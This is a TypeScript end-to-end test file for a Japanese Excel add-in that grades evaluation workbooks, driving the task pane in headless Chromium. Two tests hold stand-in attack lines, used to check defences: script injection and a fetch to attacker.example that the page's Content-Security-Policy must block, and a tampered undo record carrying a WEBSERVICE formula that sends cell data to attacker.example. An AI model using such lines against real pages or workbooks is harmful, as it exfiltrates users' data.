/**
 * End to end: the built task pane in a real headless Chromium (Debian's), with office.js
 * replaced by the fake Excel holding a sample workbook. Clicks Check, a finding, Grade and Undo
 * and asserts the fake workbook's cells after each step; saves screenshots for the README.
 * Every request that is not the local server is blocked and must not happen. The pages carry their
 * Content-Security-Policy: any violation (in the console, as a page error or as a
 * securitypolicyviolation event) fails the test that caused it.
 */
import { existsSync, promises as fs } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { chromium, type Browser, type Page } from 'playwright-core';
import { builtPane, E2E_BASE, servePane } from './paneBuild';
import { readWorkbookFile } from '../../src/adapters/xlsx/files';
import { buildWorkbook } from '../../src/adapters/xlsx/applyPlan';
import { workbookSnapshot } from '../../src/adapters/xlsx/readSnapshot';
import { checkWorkbook, planRating, planRoll, ReviewCollector, reviewData, type WorkbookSnapshot } from '../../src/engine';
import { loadWorkbook } from '../../src/adapters/xlsx/openWorkbook';
import { checkSubmission } from '../../src/adapters/xlsx/submission';
import { reviewTestSubmissions } from '../support/samples/submissions';
import { demoWorkbookSpecs } from '../support/samples/demoWorkbook';
import { encodeShiftJis } from '../helpers/shiftJis';
import { messages } from '../../src/taskpane/i18n';
import { renderStatus } from '../../src/engine/model/reviewText';
import { openView } from './paneNav';

jest.setTimeout(240_000);

const ROOT = path.resolve(__dirname, '../..');
const CHROMIUM = process.env.CHROMIUM_PATH || '/usr/bin/chromium';
const SAMPLE = path.resolve(ROOT, '../shared/samples/ichinoseki-style-project-results.xlsx');
// Screenshots go to test-output/ (ignored by git); `npm run screenshots` refreshes the README's copies.
const SHOTS = path.join(ROOT, process.env.UPDATE_SCREENSHOTS ? 'docs/screenshots' : 'test-output/screenshots');
const CDN = 'https://appsforoffice.microsoft.com/lib/1/hosted/office.js';
const BASE = E2E_BASE;

let out: string;
let closeServer: (() => Promise<void>) | undefined;
let origin: string;
let browser: Browser;
let snapshot: WorkbookSnapshot;
const blocked: string[] = [];
/** Content-Security-Policy violations seen in any page (each test must leave none). */
const cspProblems: string[] = [];
const CSP_TEXT = /Content[ -]Security[ -]Policy|unsafe-eval|EvalError/i;

afterEach(() => {
  expect(cspProblems.splice(0)).toEqual([]);
});

beforeAll(async () => {
  if (!existsSync(CHROMIUM)) throw new Error(`${CHROMIUM} がありません。npm run setup:browser（apt-get install chromium fonts-noto-cjk）を実行してください。`);
  out = await builtPane();
  snapshot = existsSync(SAMPLE) ? (await readWorkbookFile(SAMPLE)).snapshot : workbookSnapshot(buildWorkbook(demoWorkbookSpecs()));
  ({ origin, close: closeServer } = await servePane(out));
  browser = await chromium.launch({
    executablePath: CHROMIUM,
    args: [
      '--no-sandbox',
      '--disable-gpu',
      '--disable-dev-shm-usage',
      '--disable-background-networking',
      '--disable-component-update',
      '--disable-sync',
      '--no-first-run',
      '--disable-quic',
    ],
  });
});

afterAll(async () => {
  await browser?.close();
  await closeServer?.();
  // The build is shared with the other e2e suites and kept for the next run (paneBuild.ts).
});

/** `sets`: what the "Excel" lacks (ExcelApi above 1.<apiMinor>, CompressedFile 1.1). */
async function openPane(lang = 'ja-JP', fixture: WorkbookSnapshot = snapshot, sets: { apiMinor?: number; compressedFile?: boolean } = {}): Promise<Page> {
  const page = await browser.newPage({ viewport: { width: 380, height: 760 }, locale: lang });
  page.on('console', (m) => void (CSP_TEXT.test(m.text()) && cspProblems.push(`console: ${m.text()}`)));
  page.on('pageerror', (e) => void (CSP_TEXT.test(`${e.name} ${e.message}`) && cspProblems.push(`pageerror: ${e.message}`)));
  // Also what the browser reports without printing it.
  await page.addInitScript(() =>
    document.addEventListener('securitypolicyviolation', (e) => console.error(`Content Security Policy violation: ${e.violatedDirective} ${e.blockedURI}`)),
  );
  await page.route('**/*', async (route) => {
    const url = route.request().url();
    if (url === CDN) return route.fulfill({ path: `${out}-fake/fake-office.js`, contentType: 'text/javascript' });
    if (url.startsWith(origin)) return route.continue();
    blocked.push(url);
    return route.abort();
  });
  await page.addInitScript(
    ({ fixture, l, sets }) => Object.assign(window, { __FIXTURE: fixture, __LANG: l, __API_MINOR: sets.apiMinor, __COMPRESSED_FILE: sets.compressedFile }),
    { fixture, l: lang, sets },
  );
  await page.goto(`${origin}/taskpane.html`);
  return page;
}

const fakeValue = (page: Page, sheet: string, cell: string) =>
  page.evaluate(([s, c]) => (window as unknown as { __fake: { value: (s: string, c: string) => unknown } }).__fake.value(s, c), [sheet, cell]);

test('the build writes the manifest with the production base URL', async () => {
  const manifest = await fs.readFile(path.join(out, 'manifest.xml'), 'utf8');
  expect(manifest).not.toContain('localhost');
  expect(manifest).toContain(`${BASE}taskpane.html`);
  const html = await fs.readFile(path.join(out, 'taskpane.html'), 'utf8');
  expect(html).toMatch(/taskpane\.[0-9a-f]{8,}\.js/);
});

test('the built pages carry a strict Content-Security-Policy before any script', async () => {
  const { contentSecurityPolicy } = require(path.join(ROOT, 'webpack.config.js'));
  for (const [file, expected] of [
    ['taskpane.html', contentSecurityPolicy({ localOffice: false })],
    ['help.html', null],
  ] as const) {
    const html = await fs.readFile(path.join(out, file), 'utf8');
    const meta = /<meta http-equiv="?Content-Security-Policy"? content="([^"]+)"/i.exec(html);
    expect(meta).not.toBeNull();
    if (expected) expect(meta![1]).toBe(expected);
    const csp = new Map(
      meta![1]
        .split(';')
        .map((d) => d.trim().split(/\s+/))
        .map(([k, ...v]) => [k, v]),
    );
    expect([...csp.values()].flat()).not.toContain("'unsafe-eval'");
    expect(csp.get('script-src') ?? csp.get('default-src')).not.toContain("'unsafe-inline'");
    expect(csp.get('object-src') ?? csp.get('default-src')).toEqual(["'none'"]);
    expect(csp.get('connect-src') ?? csp.get('default-src')).not.toContain('*');
    const firstScript = html.search(/<script/i);
    if (firstScript >= 0) expect(meta!.index).toBeLessThan(firstScript);
  }
});

test('the policy is in force in the pane: an injected script and a call to another server are refused, and noticed', async () => {
  const page = await openPane();
  await page.getByRole('button', { name: 'ブックを確認する' }).waitFor();
  const outcome = await page.evaluate(async () => {
    const w = window as unknown as Record<string, unknown>;
    const inline = document.createElement('script');
    inline.textContent = 'window.__injected = true';
    document.head.appendChild(inline);
    const remote = document.createElement('script');
    remote.src = 'https://attacker.example/x.js';
    document.head.appendChild(remote);
    const fetched = await fetch('https://attacker.example/?d=1').then(
      () => 'sent',
      (e: Error) => e.name,
    );
    await new Promise((r) => setTimeout(r, 200));
    return { injected: w.__injected === true, fetched };
  });
  expect(outcome).toEqual({ injected: false, fetched: 'TypeError' });
  await page.close();
  // Refused by the policy before any request was made; the detector the other tests rely on saw all three.
  expect(blocked).toEqual([]);
  expect(cspProblems.some((p) => /script-src/.test(p) && /inline/.test(p))).toBe(true);
  expect(cspProblems.some((p) => /attacker\.example\/x\.js/.test(p))).toBe(true);
  expect(cspProblems.some((p) => /connect-src/.test(p))).toBe(true);
  cspProblems.splice(0);
});

test('Check, a finding, Grade and Undo on the fake Excel', async () => {
  const page = await openPane();
  const expected = checkWorkbook(snapshot, { file: 'sample.xlsx' });
  const plan = planRating(snapshot, expected, { overwrite: true });
  expect(plan.cells.length).toBeGreaterThan(0);

  // Check
  await page.getByRole('button', { name: 'ブックを確認する' }).click();
  await page.getByTestId('period').waitFor();
  expect(await page.getByTestId('period').textContent()).toBe(expected.report.period?.label ?? '不明');
  await fs.mkdir(SHOTS, { recursive: true });
  await page.screenshot({ path: path.join(SHOTS, 'check.png'), fullPage: true });

  // A finding's cell link selects that cell in Excel.
  const withCell = expected.report.findings.find((f) => f.sheet && f.cell && snapshot.sheets.find((s) => s.name === f.sheet)?.visibility === 'visible');
  expect(withCell).toBeDefined();
  if (withCell) {
    await page.getByRole('button', { name: withCell.cell! }).first().click();
    await page.waitForFunction(() => (window as unknown as { __fake: { selected: unknown } }).__fake.selected !== null);
    expect(await page.evaluate(() => (window as unknown as { __fake: { selected: unknown } }).__fake.selected)).toEqual({
      sheet: withCell.sheet,
      address: withCell.cell,
    });
  }

  // Grade
  await openView(page, '評価を記入');
  await page.getByRole('checkbox', { name: '記入済みの評価も計算結果で置き換える' }).check();
  await page.getByRole('button', { name: '評価を記入する' }).click();
  // Replacing grades asks first, with the counts; nothing is written until confirmed.
  const confirm = page.getByTestId('grade-confirm');
  await confirm.waitFor();
  const replaced = plan.cells.filter((c) => c.previous !== null && c.previous !== '').length;
  expect(await confirm.textContent()).toContain(
    `${plan.cells.length - replaced} 個の空欄に評価を記入し、${replaced} 個の記入済みの評価を計算結果で置き換えます。`,
  );
  for (const c of plan.cells) expect(await fakeValue(page, c.sheet, c.cell)).toBe(c.previous ?? '');
  await confirm.getByRole('button', { name: '置き換えて記入する' }).click();
  await page.getByTestId('changes').waitFor();
  for (const c of plan.cells) expect(await fakeValue(page, c.sheet, c.cell)).toBe(c.value);
  expect(await fakeValue(page, '評価サマリー', 'D4')).toBe('指標名');
  await page.screenshot({ path: path.join(SHOTS, 'grade.png'), fullPage: true });

  // Undo
  await openView(page, '元に戻す');
  await page.getByRole('button', { name: '直前の記入を元に戻す' }).click();
  await page.getByText(/元に戻しました/).waitFor();
  for (const c of plan.cells) expect(await fakeValue(page, c.sheet, c.cell)).toBe(c.previous ?? '');
  expect(await page.evaluate(() => (window as unknown as { __fake: { sheet: (n: string) => unknown } }).__fake.sheet('評価サマリー') ?? null)).toBeNull();
  await page.screenshot({ path: path.join(SHOTS, 'undo.png'), fullPage: true });

  // Settings
  await openView(page, '設定');
  await page.getByRole('button', { name: '評価設定に保存' }).waitFor();
  await page.screenshot({ path: path.join(SHOTS, 'settings.png'), fullPage: true });
  await page.close();
  expect(blocked).toEqual([]);
});

test('一括チェック: submitted files given to the file input are read in the web worker; the four sheets land in the fake Excel', async () => {
  const dir = await fs.mkdtemp(path.join(os.tmpdir(), 'evalsheet-e2e-review-'));
  try {
    const files: string[] = [];
    const collector = new ReviewCollector();
    for (const s of reviewTestSubmissions()) {
      const name = path.join(dir, path.basename(s.path));
      const bytes = new Uint8Array((await buildWorkbook(s.specs).xlsx.writeBuffer()) as ArrayBuffer);
      await fs.writeFile(name, bytes);
      files.push(name);
      const r = await checkSubmission(bytes, path.basename(s.path), { period: null });
      if (r.kind === 'report') collector.addReport(path.basename(s.path), r.report);
    }
    const broken = path.join(dir, '壊れたブック.xlsx');
    await fs.writeFile(broken, '指標,実績\n');
    files.push(broken);
    collector.addUnreadable('壊れたブック.xlsx', { variant: 'text' });
    const expected = reviewData(collector.finish());

    const page = await openPane();
    await openView(page, '一括チェック');
    await page.getByTestId('review-files').setInputFiles(files);
    await page.getByRole('button', { name: '一括チェックを始める' }).click();
    await page.getByTestId('review-done').waitFor({ timeout: 60_000 });
    expect(await page.getByTestId('review-done').textContent()).toContain('読み込んだブック 5 件、読み込めなかったブック 1 件');
    const sheets = await page.evaluate(() => (window as unknown as { __fake: { sheets: { name: string }[] } }).__fake.sheets.map((x) => x.name));
    expect(sheets).toEqual(expect.arrayContaining(['提出状況一覧', '指摘事項', '評価一覧', '集計']));
    expect(await fakeValue(page, '提出状況一覧', 'A4')).toBe('状況');
    // The same statuses, in the same order, as the engine gives in Node.
    for (const [i, row] of expected.rows.entries()) {
      expect(await fakeValue(page, '提出状況一覧', `A${5 + i}`)).toBe(renderStatus(row.status)); // the sheet shows the status in Japanese; the data carries its code
      expect(await fakeValue(page, '提出状況一覧', `C${5 + i}`)).toBe(row.file);
    }
    expect(await fakeValue(page, '評価一覧', `F${4 + expected.indicators.length}`)).toBe(expected.indicators[expected.indicators.length - 1].name);
    expect(await fakeValue(page, '指摘事項', `E${4 + expected.findings.length}`)).toBe(expected.findings[expected.findings.length - 1].code);
    expect(await fakeValue(page, '集計', 'A4')).toBe('提出状況');
    await page.screenshot({ path: path.join(SHOTS, 'review.png'), fullPage: true });

    // A re-run replaces the four sheets (no second copy).
    await page.getByRole('button', { name: '一括チェックを始める' }).click();
    await page.getByTestId('review-done').waitFor({ timeout: 60_000 });
    const again = await page.evaluate(() => (window as unknown as { __fake: { sheets: { name: string }[] } }).__fake.sheets.map((x) => x.name));
    expect(again.filter((n) => n === '提出状況一覧')).toHaveLength(1);
    await page.close();
    expect(blocked).toEqual([]);
  } finally {
    await fs.rm(dir, { recursive: true, force: true });
  }
});

test('年次・月次: ひな形 in a blank workbook, graded with its sheets protected; 月次実績 from a Shift_JIS CSV and an .xlsx export', async () => {
  const blank: WorkbookSnapshot = { sheets: [{ name: 'Sheet1', visibility: 'visible', protected: false, top: 1, left: 1, values: [], merges: [] }] };
  const page = await openPane('ja-JP', blank);
  await openView(page, '年次・月次');
  await page.getByRole('tab', { name: 'ひな形' }).click();
  await page.getByTestId('template-year').selectOption('2023');
  await page.getByRole('checkbox', { name: /サンプルデータ/ }).check();
  await page.getByRole('button', { name: 'ひな形を作成する' }).click();
  await page.getByTestId('template-done').waitFor();
  const sheets = () =>
    page.evaluate(() => (window as unknown as { __fake: { sheets: { name: string; protected: boolean }[] } }).__fake.sheets.map((x) => [x.name, x.protected]));
  expect(await sheets()).toEqual(
    expect.arrayContaining([
      ['施策評価', true],
      ['事業実績', true],
      ['評価設定', false],
    ]),
  );
  await page.screenshot({ path: path.join(SHOTS, 'template.png'), fullPage: true });
  await openView(page, '評価を記入');
  await page.getByRole('button', { name: '評価を記入する' }).click();
  await page.getByTestId('changes').waitFor();
  const written = await page.getByTestId('changes').locator('li').allTextContents();
  const graded = written.filter((x) => x.startsWith('施策評価!')).map((x) => /!([A-Z]+\d+)：/.exec(x)![1]);
  expect(graded.length).toBeGreaterThan(0);
  for (const cell of graded) expect(String(await fakeValue(page, '施策評価', cell))).toMatch(/^[ABCD]$/);
  expect(await sheets()).toEqual(expect.arrayContaining([['施策評価', true]]));
  await page.close();

  const months = ['4月', '5月', '6月', '7月', '8月', '9月', '10月', '11月', '12月', '1月', '2月', '3月'];
  const monthly: WorkbookSnapshot = {
    sheets: [
      {
        name: '月次実績',
        visibility: 'visible',
        protected: false,
        top: 1,
        left: 1,
        merges: [],
        values: [
          ['令和6年度　月別実績'],
          ['番号', '指標名', '単位', '区分', '年間目標', ...months, '累計'],
          ['K-01', '窓口相談件数', '件', '実績', 1200, 110],
          ['K-02', '講座の参加者数', '人', '実績', 600, 30],
        ],
      },
    ],
  };
  const dir = await fs.mkdtemp(path.join(os.tmpdir(), 'evalsheet-e2e-import-'));
  try {
    const csv = path.join(dir, '基幹系_5月.csv');
    await fs.writeFile(csv, encodeShiftJis(['指標ID,指標名,5月', 'K-01,窓口相談件数,95', 'K-99,なし,1', ''].join('\r\n')));
    const xlsx = path.join(dir, '基幹系_6月.xlsx');
    await fs.writeFile(
      xlsx,
      new Uint8Array(
        (await buildWorkbook([
          {
            name: '出力',
            rows: [
              [{ value: '指標名' }, { value: '実績値' }],
              [{ value: '講座の参加者数' }, { value: 52 }],
            ],
          },
        ]).xlsx.writeBuffer()) as ArrayBuffer,
      ),
    );
    const pane = await openPane('ja-JP', monthly);
    await openView(pane, '年次・月次');
    await pane.getByRole('tab', { name: '月次実績' }).click();
    await pane.getByTestId('import-month').selectOption('5');
    await pane.getByTestId('import-file').setInputFiles(csv);
    await pane.getByText('基幹系_5月.csv：3 行').waitFor();
    await pane.getByRole('button', { name: 'ファイルから取り込む' }).click();
    await pane.getByTestId('import-done').waitFor();
    expect(await pane.getByTestId('import-done').textContent()).toContain('5月の実績：書き込み 1 件、一致しない行 1 件、値のない指標 1 件');
    expect(await fakeValue(pane, '月次実績', 'G3')).toBe(95);
    await pane.screenshot({ path: path.join(SHOTS, 'monthly-import.png'), fullPage: true });
    await pane.getByTestId('import-month').selectOption('6');
    await pane.getByTestId('import-file').setInputFiles(xlsx);
    await pane.getByText('基幹系_6月.xlsx：2 行').waitFor();
    await pane.getByRole('button', { name: 'ファイルから取り込む' }).click();
    await pane.getByText(/6月の実績：書き込み 1 件/).waitFor();
    expect(await fakeValue(pane, '月次実績', 'H4')).toBe(52);
    await pane.close();
  } finally {
    await fs.rm(dir, { recursive: true, force: true });
  }
  expect(blocked).toEqual([]);
});

const createdWorkbooks = (page: Page) =>
  page.evaluate(() => (window as unknown as { __fake: { createdWorkbooks: { base64: string }[] } }).__fake.createdWorkbooks.map((w) => w.base64));

test("次の期間へ asks first in a dialog with the counts (cancel changes nothing), then opens the next period's workbook as a new workbook; where Excel cannot hand over the file (no CompressedFile 1.1) the dialog says so and changes the open one", async () => {
  const demo = workbookSnapshot(buildWorkbook(demoWorkbookSpecs()));
  const checked = checkWorkbook(demo, { file: 'このブック' });
  const expected = planRoll(demo, checked, checked.report.period!.fiscalYear + 1);
  const probe = expected.changes.find((c) => c.kind === 'period')!;
  const page = await openPane('ja-JP', demo);
  await openView(page, '年次・月次');
  await page.getByRole('button', { name: '次の期間のブックにする' }).click();
  const dialog = page.getByTestId('roll-confirm');
  await dialog.waitFor();
  expect(await dialog.textContent()).toContain(`${expected.changes.length} 個のセルを書き換えます`);
  expect(await dialog.textContent()).toContain(`${expected.from.label} から ${expected.to.label}`);
  expect(await fakeValue(page, probe.sheet, probe.cell)).toBe(probe.before);
  // The dialog fades in: the picture is taken once its animations have ended.
  await page.waitForFunction(() => document.getAnimations().every((a) => a.playState !== 'running'));
  await page.screenshot({ path: path.join(SHOTS, 'roll-confirm.png'), fullPage: true });
  await dialog.getByRole('button', { name: 'キャンセル' }).click();
  await page.getByTestId('roll-cancelled').waitFor();
  expect(await fakeValue(page, probe.sheet, probe.cell)).toBe(probe.before);
  expect(await createdWorkbooks(page)).toEqual([]);

  await page.getByRole('button', { name: '次の期間のブックにする' }).click();
  await dialog.getByRole('button', { name: '新しいブックとして作る' }).click();
  await page.getByTestId('roll-done').waitFor({ timeout: 60_000 });
  expect(await page.getByTestId('roll-done').getAttribute('data-target')).toBe('new');
  expect(await fakeValue(page, probe.sheet, probe.cell)).toBe(probe.before);
  const made = await createdWorkbooks(page);
  expect(made).toHaveLength(1);
  const opened = await loadWorkbook(new Uint8Array(Buffer.from(made[0], 'base64')), 'new.xlsx');
  expect(checkWorkbook(opened.snapshot, {}).report.period?.label).toBe(expected.to.label);
  await page.close();

  const old = await openPane('ja-JP', demo, { compressedFile: false });
  await openView(old, '年次・月次');
  await old.getByRole('button', { name: '次の期間のブックにする' }).click();
  const asked = old.getByTestId('roll-confirm');
  await asked.waitFor();
  expect(await asked.textContent()).toContain('CompressedFile 1.1');
  expect(await asked.getByRole('button', { name: '新しいブックとして作る' }).count()).toBe(0);
  await asked.getByRole('button', { name: 'このブックを変更する' }).click();
  await old.getByTestId('roll-done').waitFor();
  expect(await old.getByTestId('roll-done').getAttribute('data-target')).toBe('open');
  expect(await fakeValue(old, probe.sheet, probe.cell)).toBe(probe.after);
  await old.close();
  expect(blocked).toEqual([]);
});

test('English when Office is in English', async () => {
  const page = await openPane('en-US');
  await page.getByRole('button', { name: 'Check workbook' }).click();
  await page.getByTestId('period').waitFor();
  await page.close();
  expect(blocked).toEqual([]);
});

test('Undo refuses a record edited in the workbook (Web Crypto and localStorage of the real browser), in Japanese and English', async () => {
  for (const lang of ['ja-JP', 'en-US']) {
    const page = await openPane(lang);
    const ja = lang === 'ja-JP';
    await openView(page, ja ? '評価を記入' : 'Grade');
    const t = messages(ja ? 'ja' : 'en');
    await page.getByRole('checkbox', { name: t.overwrite }).check();
    await page.getByRole('button', { name: t.grade }).click();
    await page.getByTestId('grade-confirm').getByRole('button', { name: t.gradeConfirm }).click();
    await page.getByTestId('changes').waitFor();
    type Fake = { sheet: (n: string) => { cells: Map<string, { value: unknown }> } | undefined; settings: Map<string, unknown> };
    // The key is in this browser's storage under the workbook's id, which is in the workbook's settings; the record is signed.
    const signed = await page.evaluate(() => {
      const fake = (window as unknown as { __fake: Fake }).__fake;
      const id = String(fake.settings.get('EvalSheet.workbookId'));
      const record = JSON.parse(String(fake.sheet('_EvalSheet取消記録')!.cells.get('A1')!.value));
      return { id, key: localStorage.getItem(`EvalSheet.undoKey.${id}`), recordId: record.workbookId, sig: record.sig };
    });
    expect(signed.key).toMatch(/^[0-9a-f]{64}$/);
    expect(signed.recordId).toBe(signed.id);
    expect(signed.sig).toMatch(/^[0-9a-f]{64}$/);
    // Someone edits the record: the first cell's previous content becomes a WEBSERVICE formula.
    const before = await page.evaluate(() => {
      const fake = (window as unknown as { __fake: Fake }).__fake;
      const cell = fake.sheet('_EvalSheet取消記録')!.cells.get('A1')!;
      const record = JSON.parse(String(cell.value));
      record.cells[0].formula = '=WEBSERVICE("http://attacker.example/?d="&A1)';
      cell.value = JSON.stringify(record);
      return { sheet: record.cells[0].sheet, cell: record.cells[0].cell, value: fake.sheet(record.cells[0].sheet)!.cells.get(record.cells[0].cell)!.value };
    });
    await openView(page, ja ? '元に戻す' : 'Undo');
    const refused = page.getByTestId('undo-refused');
    await refused.waitFor();
    expect(await refused.textContent()).toMatch(
      ja
        ? /信頼できないため、元に戻しません：記録の署名が一致しません.*何も変更していません/
        : /cannot be trusted \(its signature does not match.*Nothing in the workbook was changed/,
    );
    expect(await page.getByRole('button', { name: t.undo }).isDisabled()).toBe(true);
    expect(await fakeValue(page, before.sheet, before.cell)).toBe(before.value);
    expect(await page.evaluate(() => !!(window as unknown as { __fake: Fake }).__fake.sheet('評価サマリー'))).toBe(true);
    if (ja) await page.screenshot({ path: path.join(SHOTS, 'undo-refused.png'), fullPage: true });
    await page.close();
  }
  expect(blocked).toEqual([]);
});
